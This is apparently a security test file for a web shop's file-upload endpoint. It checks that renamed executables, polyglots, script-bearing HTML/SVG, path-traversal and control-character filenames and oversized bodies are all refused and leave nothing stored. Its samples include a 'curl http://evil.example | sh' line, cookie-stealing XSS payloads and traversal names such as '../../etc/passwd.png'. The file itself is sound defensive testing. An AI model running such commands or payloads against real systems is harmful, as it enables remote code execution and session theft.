// Point 3 of issue 14: the upload attack corpus against POST /api/uploads (the rules:
// app/server/checkout/upload-checks.server.ts — a clean name with an allowed extension, and content
// whose magic bytes match that extension). Renamed executables, polyglots the rules can tell, HTML and
// SVG disguised as images, traversal and control characters in names, oversized, truncated and
// chunked bodies: each refused with the endpoint's German message, and afterwards nothing of it in
// storage (DATA_DIR/files, partial files included) and no row in the database. Runs on a server of
// its own, whose storage and database the test inspects at the end.
//
// Accepted by design and therefore not in the refusal list: content that starts like its type and
// carries more after it (an image with HTML appended): the type is the magic bytes' one, and staff get
// such files only as plain images or downloads (nosniff, `sandbox` CSP; headers.test.ts).
import { randomUUID } from 'node:crypto';
import { readdir } from 'node:fs/promises';
import http from 'node:http';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { fixture } from '#tests/support/order-fixtures.ts';
import { MB, pdfBody, writePdfInChunks } from '#tests/support/upload-bodies.ts';
import { type Answer, rawCall } from './support/http.ts';
import { rows, type SuiteServer, startSuiteServer } from './support/suite-server.ts';

const INVALID = 'Nur JPG, PNG, PDF, TXT und DOCX Dateien sind erlaubt.';
const TOO_LARGE = 'Maximum 50 MB pro Datei.';

let suite: SuiteServer;
/** Checkout ids of every refused attack: nothing may stay under them. */
const refusedCheckouts: string[] = [];
/** Checkout ids of uploads accepted by design. */
const acceptedCheckouts: string[] = [];

beforeAll(async () => {
  suite = await startSuiteServer();
}, 180_000);

afterAll(async () => {
  await suite?.cleanup();
});

const png = () => fixture('profilbild.png');
const zipHead = Buffer.from('504b0304140000000800', 'hex');
const jpegHead = Buffer.from('ffd8ffe000104a46494600010100000100010000ffdb004300', 'hex');
const withTail = (head: Buffer, tail: string | Buffer, size = 4096) =>
  Buffer.concat([head, Buffer.alloc(Math.max(0, size - head.length)), Buffer.from(tail)]);

function upload(fileName: string, body: Buffer | string, headers: Record<string, string> = {}): Promise<Answer> {
  const checkoutId = randomUUID();
  refusedCheckouts.push(checkoutId);
  return rawCall(suite.server.base, '/api/uploads', {
    method: 'POST',
    headers: { 'x-checkout-id': checkoutId, 'x-file-name': encodeURIComponent(fileName), ...headers },
    body,
  });
}

function expectRefused(answer: Answer, status: number, message: string, where: string) {
  expect(answer.status, `${where}: ${answer.body.slice(0, 200)}`).toBe(status);
  const body = JSON.parse(answer.body) as { title?: string; description?: string };
  expect(`${body.title} ${body.description}`, where).toContain(message);
}

async function filesBelow(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries.filter((entry) => entry.isFile()).map((entry) => path.join(entry.parentPath, entry.name));
}

describe('the upload attack corpus', () => {
  const contentCases: [string, string, () => Promise<Buffer> | Buffer][] = [
    [
      'an ELF executable named .jpg',
      'urlaubsfoto.jpg',
      () => withTail(Buffer.from('7f454c46020101000000', 'hex'), 'ELF'),
    ],
    [
      'a PE executable named .pdf',
      'rechnung.pdf',
      () => withTail(Buffer.from('4d5a90000300000004000000ffff0000', 'hex'), 'This program cannot be run in DOS mode'),
    ],
    ['a program disguised as an image (fixture)', 'programm-als-bild.png', () => fixture('programm-als-bild.png')],
    ['a shell script named .png', 'bild.png', () => Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n')],
    [
      'HTML named .jpg',
      'profil.jpg',
      () => Buffer.from('<!doctype html><html><script>alert(document.cookie)</script></html>'),
    ],
    [
      'SVG with script named .png',
      'logo.png',
      () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ],
    ['SVG named .svg', 'logo.svg', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')],
    ['a GIF/JavaScript polyglot named .jpg', 'animation.jpg', () => Buffer.from('GIF89a/*\x00\x00*/=alert(1)//')],
    [
      'a PDF behind an HTML head',
      'vertrag.pdf',
      () => Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), pdfBody(2048)]),
    ],
    [
      'a JPEG/ZIP polyglot named .docx',
      'lebenslauf.docx',
      () => withTail(jpegHead, Buffer.concat([zipHead, Buffer.alloc(200)])),
    ],
    ['a plain ZIP (e.g. a JAR) named .docx', 'bewerbung.docx', () => withTail(zipHead, 'META-INF/MANIFEST.MF', 512)],
    ['a PNG named .jpg', 'foto.jpg', png],
    ['a PNG named .exe', 'foto.exe', png],
    ['a PNG named .html', 'foto.html', png],
    ['a PNG with a double extension ending in .php', 'foto.png.php', png],
  ];
  test.each(contentCases)('%s: 415 "Ungültiger Dateityp"', async (_name, fileName, body) => {
    expectRefused(await upload(fileName, await body()), 415, INVALID, fileName);
  });

  const nameCases = [
    '../../etc/passwd.png',
    '..\\..\\windows\\win.ini.png',
    '/etc/cron.d/x.png',
    'C:\\Windows\\System32\\bild.png',
    'bild\u0000.exe.png',
    'bild\r\nX-Injected: 1.png',
    'rechnung\u202egnp.exe',
    'foto\u202e.png',
    'foto\u2066.png',
    '\u0007glocke.png',
    'bild..png',
    `${'a'.repeat(300)}.png`,
  ];
  test.each(nameCases)('a valid image named %j: refused with the German message', async (fileName) => {
    expectRefused(await upload(fileName, await png()), 415, INVALID, JSON.stringify(fileName));
  });

  test('a body declared over 50 MB: 413 "Datei zu groß", not read (Connection: close)', async () => {
    const answer = await sendStreamed({ total: 50 * MB + 1, declare: true });
    expect(answer.status).toBe(413);
    expect(answer.body).toContain(TOO_LARGE);
  });

  test('a chunked body (no Content-Length) over 50 MB: 413 "Datei zu groß"', async () => {
    const answer = await sendStreamed({ total: 50 * MB + 1, declare: false });
    expect(answer.status).toBe(413);
    expect(answer.body).toContain(TOO_LARGE);
  });

  test('an executable sent chunked, without Content-Length: 415', async () => {
    const answer = await sendStreamed({
      total: 64 * 1024,
      declare: false,
      fileName: 'bild.jpg',
      head: Buffer.from('7f454c46', 'hex'),
    });
    expectRefused(answer, 415, INVALID, 'chunked ELF');
  });

  test('a truncated body (the client stops after half of the declared length): nothing kept', async () => {
    const checkoutId = randomUUID();
    refusedCheckouts.push(checkoutId);
    await new Promise<void>((resolve) => {
      const request = http.request(`${suite.server.base}/api/uploads`, {
        method: 'POST',
        headers: { 'x-checkout-id': checkoutId, 'x-file-name': 'abgebrochen.pdf', 'content-length': String(4 * MB) },
      });
      request.on('error', () => resolve());
      request.on('response', () => resolve());
      request.write(pdfBody(2 * MB), () => setTimeout(() => request.destroy(), 300));
    });
    expect((await fetch(`${suite.server.base}/healthz`)).status).toBe(200);
  });

  test('an empty body: refused', async () => {
    const answer = await upload('leer.pdf', Buffer.alloc(0));
    expect([400, 415]).toContain(answer.status);
  });

  test('accepted by design: an image with HTML appended is stored as the image it starts as', async () => {
    const checkoutId = randomUUID();
    acceptedCheckouts.push(checkoutId);
    const body = Buffer.concat([
      await fixture('profilbild.png'),
      Buffer.from('<html><script>alert(1)</script></html>'),
    ]);
    const answer = await rawCall(suite.server.base, '/api/uploads', {
      method: 'POST',
      headers: { 'x-checkout-id': checkoutId, 'x-file-name': 'bild-mit-anhang.png' },
      body,
    });
    expect(answer.status).toBe(201);
    expect(JSON.parse(answer.body)).toMatchObject({ fileType: 'image/png' });
  });

  test('afterwards: nothing of a refused upload in storage (no partial files) and no row', async () => {
    const files = path.join(suite.server.dataDir, 'files');
    // The truncated upload's partial file is removed when the server notices the abort.
    await expect
      .poll(async () => (await filesBelow(files)).filter((file) => /\.part-/.test(file)), { timeout: 15_000 })
      .toEqual([]);
    const stored = await filesBelow(files);
    for (const checkoutId of refusedCheckouts)
      expect(
        stored.filter((file) => file.includes(checkoutId)),
        checkoutId,
      ).toEqual([]);
    expect(stored.filter((file) => acceptedCheckouts.some((id) => file.includes(id)))).toHaveLength(
      acceptedCheckouts.length,
    );
    if (!suite.databaseUrl) await suite.stop();
    const leftovers = await suite.withDatabase((database) =>
      rows<{ staging_id: string; state: string }>(database, 'select staging_id, state from uploaded_documents'),
    );
    expect(leftovers.filter((row) => refusedCheckouts.includes(row.staging_id))).toEqual([]);
    expect(leftovers.filter((row) => row.state !== 'stored')).toEqual([]);
    expect(leftovers).toHaveLength(acceptedCheckouts.length);
  });
});

/** An upload written in 1 MB chunks: declared (Content-Length) or chunked. */
function sendStreamed(options: { total: number; declare: boolean; fileName?: string; head?: Buffer }): Promise<Answer> {
  const checkoutId = randomUUID();
  refusedCheckouts.push(checkoutId);
  return new Promise((resolve, reject) => {
    const request = http.request(`${suite.server.base}/api/uploads`, {
      method: 'POST',
      agent: false,
      headers: {
        'x-checkout-id': checkoutId,
        'x-file-name': options.fileName ?? 'gross.pdf',
        ...(options.declare ? { 'content-length': String(options.total) } : { 'transfer-encoding': 'chunked' }),
      },
    });
    request.on('response', (response) => {
      let body = '';
      response.setEncoding('utf8');
      response.on('data', (chunk: string) => {
        body += chunk;
      });
      response.on('end', () => {
        resolve({ status: response.statusCode ?? 0, headers: new Headers(), body });
        request.destroy();
      });
    });
    // The server may answer and close before the body is through (a declared oversize body is not
    // read): a write error after the answer is expected; without an answer it fails the test.
    request.on('error', (error) => setTimeout(() => reject(error), 2000));
    if (options.declare && !options.head) {
      // Declared over the limit: the answer comes before the body; send only its first megabyte.
      request.write(pdfBody(MB));
    } else if (options.head) {
      request.end(Buffer.concat([options.head, Buffer.alloc(options.total - options.head.length)]));
    } else writePdfInChunks(request, options.total);
  });
}
